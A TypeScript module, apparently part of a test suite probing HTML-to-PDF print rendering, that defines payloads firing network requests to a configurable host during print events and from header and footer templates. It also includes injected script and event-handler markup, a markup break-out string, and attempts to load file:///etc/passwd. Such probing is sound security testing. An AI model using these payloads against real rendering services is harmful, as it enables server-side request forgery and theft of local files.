import { elements } from './elements.ts'
import { type Payload, script } from './payload.ts'
import { styles } from './styles.ts'
import { vectors } from './vectors.ts'

/** Requests made while the document is printed. */
const onPrint: Payload[] = [
  {
    name: 'beforeprint',
    html: ({ http }) => script(`addEventListener('beforeprint', () => { navigator.sendBeacon('${http}/a') })`),
  },
  {
    name: 'afterprint',
    html: ({ http }) => script(`onafterprint = () => { fetch('${http}/a', { keepalive: true }) }`),
  },
  {
    name: 'beforeprint-synchronous',
    html: ({ http }) =>
      script(`onbeforeprint = () => { const x = new XMLHttpRequest(); x.open('GET', '${http}/a.txt', false); x.send()
      document.body.append(x.responseText) }`),
  },
  {
    name: 'print-media-query',
    html: ({ http }) =>
      script(`matchMedia('print').addListener(() => { new Image().src = '${http}/a' })
      matchMedia('print').onchange = () => fetch('${http}/b')`),
  },
  {
    name: 'print-again',
    html: ({ http }) =>
      script(`onbeforeprint = () => { document.body.innerHTML = '<img src="${http}/a.svg">' }; print(); print()`),
  },
  {
    name: 'beforeprint-frame',
    html: ({ http }) =>
      script(
        `onbeforeprint = () => { const f = document.createElement('iframe'); f.src = '${http}/a.html'; document.body.append(f) }`,
      ),
  },
]

const again = ['img', 'iframe', 'object', 'embed', 'link-stylesheet', 'link-prefetch', 'video', 'script-src', 'base']
const againStyles = ['css-background', 'css-import', 'css-font-face', 'css-content', 'css-mask']
const againVectors = ['svg-image', 'svg-feimage', 'svg-script', 'svg-foreign-object']

/** The same payloads in headers and footers, which Chromium prints in a separate page. */
const inMargins: Payload[] = [...elements, ...styles, ...vectors]
  .filter(({ name }) => [...again, ...againStyles, ...againVectors].includes(name))
  .map(({ name, html }, index) => ({
    name: `${name}-in-margin`,
    html: () => '<p>body</p>',
    [index % 2 === 0 ? 'headerHtml' : 'footerHtml']: html,
    reaches: 'none',
  }))

const scriptsInMargins: Payload[] = [
  [
    'script',
    (http: string) => `<script>fetch('${http}/a'); new Image().src = '${http}/b'; location = '${http}/c'</script>`,
  ],
  ['event', (http: string) => `<img src=data:, onerror="fetch('${http}/a')"><svg onload="fetch('${http}/b')"></svg>`],
  ['refresh', (http: string) => `<meta http-equiv=refresh content="0;url=${http}/a.html">`],
  [
    'file',
    () =>
      '<iframe src=file:///etc/passwd></iframe><object data=file:///etc/passwd></object><img src=file:///etc/passwd>',
  ],
  [
    'break-out',
    (http: string) =>
      `</div></body></html><body background="${http}/a"><span class=url></span><span class=title></span>`,
  ],
].map(([name, html]) => ({
  name: `margin-${name}`,
  html: () => '<p>body</p>',
  headerHtml: ({ http }) => (html as (http: string) => string)(http),
  footerHtml: ({ http }) => (html as (http: string) => string)(http),
  reaches: 'none',
}))

export const printing: Payload[] = [...onPrint, ...inMargins, ...scriptsInMargins]
